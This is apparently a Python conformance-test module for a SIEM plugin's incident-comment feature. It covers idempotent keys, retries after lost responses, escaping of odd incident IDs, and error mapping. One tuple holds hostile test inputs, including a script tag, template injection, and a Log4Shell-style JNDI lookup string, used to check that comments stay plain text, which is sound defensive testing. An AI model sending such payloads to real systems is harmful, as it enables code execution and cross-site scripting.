"""Rules for comments on incidents."""

from __future__ import annotations

from tocsin.errors import PluginFailure, Refused, TryLater
from tocsin.hookspecs import Capability
from tocsin.testing.conformance.capabilities import ODD_IDS
from tocsin.testing.conformance.http_harness import HttpConformance, HttpHarness
from tocsin.testing.conformance.rules import (
    catch_failure,
    describe_error,
    does_not_apply,
    expect,
    expect_failure,
    rule,
)
from tocsin.testing.faults import Fault
from tocsin.testing.siem import Case

_KEY = "tocsin:ses_01:1:7"
_TEXT = "Nothing was found."
_HOSTILE = (
    "<script>alert(1)</script> & <b>bold</b>",
    "# not a heading\n\n* [a link](https://example.com) `code` **bold**\n> quoted",
    "{{ 7 * 7 }} ${jndi:ldap://example.com/x} %s \\n",
    "\"quoted\" 'and' @everyone #1 鐘",
    f"[tocsin {_KEY}]\nof another comment",
)
_MOST_TRIES = 4
_FAILURES = {
    Fault.THROTTLED: TryLater,
    Fault.BAD_GATEWAY: TryLater,
    Fault.FORBIDDEN: Refused,
    Fault.ERROR: PluginFailure,
    Fault.LOGIN_PAGE: PluginFailure,
    Fault.EMPTY: PluginFailure,
}


class CommentRules(HttpConformance):
    """Rules for `comment`."""

    @rule
    async def test_a_comment_is_written_to_its_incident(self) -> None:
        """`comment` writes its text to the given incident and to no other.

        Analysts read an incident's comments and act on them.
        """
        async with self.harness() as harness:
            self._writes()
            one, other = harness.put(), harness.put()
            await self._write(harness, one)
            _expect_texts(harness, one, _TEXT)
            _expect_texts(harness, other)

    @rule
    async def test_a_comment_stays_plain_text(self) -> None:
        """A comment shows exactly the given text, including markup, quotes and line breaks.

        Comments can quote text from attackers, which must not turn into a link or a mention.
        """
        async with self.harness() as harness:
            self._writes()
            for text in _HOSTILE:
                case = harness.put()
                await self._write(harness, case, text=text)
                _expect_texts(harness, case, text)

    @rule
    async def test_a_key_is_written_once(self) -> None:
        """A comment is not written again if a comment with its key exists, even after a restart.

        After a crash, Tocsin does not know whether the comment was written, so it tries again.
        """
        async with self.harness() as harness:
            self._writes()
            case = harness.put()
            for _ in range(2):
                await self._write(harness, case)
                await harness.restart()
            _expect_texts(harness, case, _TEXT)

    @rule
    async def test_another_key_is_another_comment(self) -> None:
        """Comments with different keys stay separate, even if their keys or texts look alike.

        Otherwise, the result of a later investigation would be missing.
        """
        async with self.harness() as harness:
            self._writes()
            case = harness.put()
            keys = (f"{_KEY}1", _KEY, f"{_KEY}0")
            for key in keys:
                await self._write(harness, case, key=key)
            _expect_texts(harness, case, *(_TEXT for _ in keys))

    @rule
    async def test_a_comment_is_written_once_after_a_lost_response(self) -> None:
        """If the response to a comment is lost, the comment is not written a second time.

        Connections can break at any time, and duplicate comments make an incident hard to read.
        """
        async with self.harness() as harness:
            self._writes()
            case = harness.put()
            harness.simulator.fail(Fault.LOST)
            for _ in range(_MOST_TRIES):
                error = await catch_failure(self._write(harness, case))
                if error is None:
                    break
                harness.wait_out(error)
            expect(error is None, f"{describe_error(error)}, although only one response was lost")
            _expect_texts(harness, case, _TEXT)

    @rule
    async def test_a_comment_to_an_unknown_incident_is_refused(self) -> None:
        """`comment` raises `Refused` for an incident that does not exist in the SIEM.

        Otherwise, Tocsin would retry forever or count the comment as written.
        """
        async with self.harness() as harness:
            self._writes()
            expect_failure(await catch_failure(self._write(harness, harness.case())), Refused)

    @rule
    async def test_a_comment_reaches_any_id(self) -> None:
        """`comment` writes to incidents whose ID contains a slash, a space, `?`, `#` or `%`.

        If an ID is not escaped, the path leads to another incident.
        """
        async with self.harness() as harness:
            self._writes()
            for odd in ODD_IDS:
                case = harness.put(id=odd)
                await harness.arrive()
                if self.external_id(case) not in harness.store.incidents:
                    does_not_apply(f"its ids never look like {odd!r}")
                await self._write(harness, case)
                _expect_texts(harness, case, _TEXT)

    @rule
    async def test_a_failed_comment_raises(self) -> None:
        """When the SIEM fails, `comment` raises the same errors as `read`; after the SIEM recovers,
        `comment` succeeds.

        Otherwise, Tocsin would record a missing comment as written.
        """
        async with self.harness() as harness:
            self._writes()
            for fault, wanted in _FAILURES.items():
                case = harness.put()
                harness.simulator.fail(fault)
                expect_failure(await catch_failure(self._write(harness, case)), wanted)
                harness.simulator.recover()
                await self._write(harness, case)
                _expect_texts(harness, case, _TEXT)

    def _writes(self) -> None:
        if Capability.COMMENT not in self.provider.capabilities():
            does_not_apply(f"the provider does not offer {Capability.COMMENT}")

    async def _write(
        self, harness: HttpHarness, case: Case, *, text: str = _TEXT, key: str = _KEY
    ) -> None:
        await harness.provider.comment(self.external_id(case), text, key)


def _expect_texts(harness: HttpHarness, case: Case, *texts: str) -> None:
    """Check that an incident has exactly these comments, possibly with markers around them."""
    found = harness.siem.comments(case.id)
    expect(len(found) == len(texts), f"{len(found)} comments, expected {len(texts)}")
    for text, comment in zip(texts, found, strict=True):
        expect(text in comment, f"{comment!r}, expected {text!r}")
